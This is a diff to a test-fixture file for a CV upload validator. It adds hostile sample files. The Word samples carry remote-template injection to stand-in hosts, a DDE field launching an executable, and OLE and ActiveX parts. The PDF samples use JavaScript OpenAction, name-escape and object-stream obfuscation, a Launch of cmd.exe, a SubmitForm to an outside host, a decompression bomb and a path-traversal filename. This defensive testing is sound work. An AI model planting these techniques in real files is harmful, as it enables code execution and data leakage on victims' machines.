@@ -1,4 +1,5 @@
 /** Files that people send who mean harm, or whose file is broken: none may be stored, but those that are harmless. */
+import { deflateSync } from 'node:zlib'
 import type { FileProblem } from '@anupalan/server/contract'
 import { writeDocx, writeZip } from './zip.ts'
 
@@ -34,6 +35,17 @@ function hugePng(): Buffer {
 
 const compoundFile = () =>
   Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)])
+
+/** A part of relationships with one, of a type of Office's own. */
+const relationshipTo = (type: string, target: string, mode = 'External') =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
+
+/** A stream that holds objects of a PDF, packed. @param first where its objects begin, behind their numbers and offsets */
+function objectStream(inside: string, keys = '/Type/ObjStm', first = 4): string {
+  const packed = deflateSync(Buffer.from(inside, 'latin1')).toString('latin1')
+  const filter = keys.includes('/Filter') ? '' : '/Filter/FlateDecode'
+  return `9 0 obj <<${keys}/N 1/First ${first}${filter}/Length ${packed.length}>>stream\r\n${packed}\r\nendstream endobj`
+}
 
 const megabyte = 1024 * 1024
 const pdf = 'application/pdf'
@@ -119,7 +131,13 @@ export const hostileFiles: readonly HostileFile[] = [
     'wrongKind',
   ),
   file('an old Word document', 'cv.doc', 'application/msword', compoundFile, 'wrongKind'),
-  file('a Word document locked by a password', 'cv.docx', word, compoundFile, 'wrongKind'),
+  file(
+    'a Word document locked by a password',
+    'cv.docx',
+    word,
+    () => Buffer.concat([compoundFile(), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]),
+    'locked',
+  ),
   file('a picture of 20,000 pixels', 'cv.png', 'image/png', hugePng, 'wrongKind'),
   file('a picture of 20,000 pixels called PDF', 'cv.pdf', pdf, hugePng, 'wrongKind'),
   file(
@@ -252,6 +270,183 @@ export const hostileFiles: readonly HostileFile[] = [
     word,
     () => writeDocx([{ name: 'word/VBAPROJECT.BIN', bytes: 'x' }]),
     'macros',
+  ),
+  ...[
+    ['a remote template', relationshipTo('attachedTemplate', 'https://elsewhere.example/x.dotm')],
+    [
+      'a template on another machine',
+      relationshipTo('attachedTemplate', String.raw`\\\\elsewhere\\share\\x.dotm`),
+    ],
+    [
+      'a template as a file of another machine',
+      relationshipTo('attachedTemplate', 'file://elsewhere/x.dotm'),
+    ],
+    [
+      'a remote template by entities',
+      relationshipTo('attachedTemplat&#101;', 'https://elsewhere.example/x', 'Externa&#x6c;'),
+    ],
+    ['a remote picture', relationshipTo('image', 'https://elsewhere.example/seen.png')],
+    ['an OLE object that is elsewhere', relationshipTo('oleObject', 'https://elsewhere.example/x.xls')],
+    ['a frame', relationshipTo('frame', 'https://elsewhere.example/')],
+    ['a web page inside', relationshipTo('aFChunk', '/word/chunk.html', 'Internal')],
+  ].map(([what, rels]) =>
+    file(
+      `a Word document with ${what}`,
+      'cv.docx',
+      word,
+      () => writeDocx([{ name: 'word/_rels/settings.xml.rels', bytes: rels! }]),
+      'active',
+    ),
+  ),
+  file(
+    'a Word document with a remote template in UTF-16',
+    'cv.docx',
+    word,
+    () =>
+      writeDocx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          bytes: Buffer.from(
+            `\uFEFF${relationshipTo('attachedTemplate', 'https://elsewhere.example/x')}`,
+            'utf16le',
+          ),
+        },
+      ]),
+    'active',
+  ),
+  file(
+    'a Word document whose relationships define entities',
+    'cv.docx',
+    word,
+    () =>
+      writeDocx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          bytes: `<!DOCTYPE x [<!ENTITY e "External">]>${relationshipTo('attachedTemplate', 'x', '&e;')}`,
+        },
+      ]),
+    'damaged',
+  ),
+  file(
+    'a Word document with an OLE object',
+    'cv.docx',
+    word,
+    () => writeDocx([{ name: 'word/embeddings/oleObject1.bin', bytes: compoundFile() }]),
+    'active',
+  ),
+  file(
+    'a Word document with ActiveX',
+    'cv.docx',
+    word,
+    () => writeDocx([{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }]),
+    'active',
+  ),
+  file(
+    'a Word document with a field that starts a program, in pieces',
+    'cv.docx',
+    word,
+    () =>
+      writeDocx([
+        {
+          name: 'word/header1.xml',
+          bytes:
+            '<w:hdr><w:instrText> DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\x.exe "/k"</w:instrText></w:hdr>',
+        },
+      ]),
+    'active',
+  ),
+  file(
+    'a Word document with links, and made from a template on its writer’s disk',
+    'cv.docx',
+    word,
+    () =>
+      writeDocx([
+        {
+          name: 'word/_rels/document.xml.rels',
+          bytes: relationshipTo('hyperlink', 'https://linkedin.example/in/lakshmi'),
+        },
+        {
+          name: 'word/_rels/settings.xml.rels',
+          bytes: relationshipTo('attachedTemplate', String.raw`file:///C:\\Users\\L\\Templates\\Normal.dotm`),
+        },
+        { name: 'word/header1.xml', bytes: '<w:hdr><w:instrText> PAGE </w:instrText>Added 2 years</w:hdr>' },
+      ]),
+    { keptAs: 'cv.docx' },
+  ),
+  ...[
+    ['a script', '1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'],
+    [
+      'a script that runs when it is opened',
+      '1 0 obj <</Type/Catalog/OpenAction<</S /JavaScript /JS 2 0 R>>>> endobj',
+    ],
+    ['a script under another spelling', '1 0 obj <</S/J#61vaScr#69pt/#4A#53(x)>> endobj'],
+    [
+      'a script in an object that begins inside a string',
+      '1 0 obj (text 2 0 obj <</S/JavaScript>> endobj) endobj',
+    ],
+    [
+      'a script in an object that begins inside a comment',
+      '% 2 0 obj <</JS(x)>> endobj\n1 0 obj <<>> endobj',
+    ],
+    [
+      'a script in an object that begins inside a stream',
+      '1 0 obj <</Length 9>> stream\n2 0 obj <</JS(x)>> endobj\nendstream endobj',
+    ],
+    ['a program that it starts', '1 0 obj <</S/Launch/F(cmd.exe)>> endobj'],
+    ['another file inside', '1 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj'],
+    ['a form that is sent elsewhere', '1 0 obj <</S/SubmitForm/F(https://elsewhere.example)>> endobj'],
+    ['a script in a stream of objects', objectStream('1 0 <</S/JavaScript/JS(x)>>')],
+    ['a script in a stream of objects that does not say so', objectStream('1 0 <</S/JavaScript/JS(x)>>', '')],
+    [
+      'a script that a string of a stream of objects hides',
+      objectStream('1 0 2 14 (never closed <</JS(x)>>', '/Type/ObjStm', 8),
+    ],
+    ['a stream of objects packed in another way', objectStream('1 0 <<>>', '/Type/ObjStm/Filter/LZWDecode')],
+    [
+      'a stream of objects packed twice',
+      objectStream('1 0 <<>>', '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'),
+    ],
+  ].map(([what, inside]) => file(`a PDF with ${what}`, 'cv.pdf', pdf, () => smallPdf(inside), 'active')),
+  file(
+    'a PDF locked by a password',
+    'cv.pdf',
+    pdf,
+    () =>
+      text(
+        '%PDF-1.7\n1 0 obj <</JS(x)>> endobj\ntrailer <</Encrypt 2 0 R/Root 1 0 R>>\nstartxref\n9\n%%EOF\n',
+      ),
+    'locked',
+  ),
+  file(
+    'a PDF locked by a password, its trailer in a stream',
+    'cv.pdf',
+    pdf,
+    () => smallPdf('1 0 obj <</Type/XRef/Encrypt 2 0 R/Length 1>> stream\nx\nendstream endobj'),
+    'locked',
+  ),
+  file(
+    'a PDF whose stream of objects is a bomb',
+    'cv.pdf',
+    pdf,
+    () => smallPdf(objectStream(' '.repeat(40 * megabyte))),
+    'damaged',
+  ),
+  file(
+    'a PDF that is read again and again',
+    'cv.pdf',
+    pdf,
+    () => smallPdf('1 0 obj '.repeat(500_000)),
+    'damaged',
+  ),
+  file(
+    'a PDF that speaks of scripts and begins at a page',
+    'cv.pdf',
+    pdf,
+    () =>
+      smallPdf(
+        `1 0 obj <</Title(HTML/CSS/JavaScript \\( /JS)/OpenAction[3 0 R/Fit]/URI(https://x.example/JS)>> endobj\n${objectStream('1 0 <</Title(/JavaScript)>>')}\n2 0 obj <</Filter/FlateDecode/Length 9>> stream\n /JS /Launch \nendstream endobj`,
+      ),
+    { keptAs: 'cv.pdf' },
   ),
   file('a PDF with two endings', 'cv.pdf.exe', pdf, smallPdf, { keptAs: 'cv.pdf.exe.pdf' }),
   file('a PDF whose name leads out of its folder', '../../../../etc/passwd', pdf, smallPdf, {
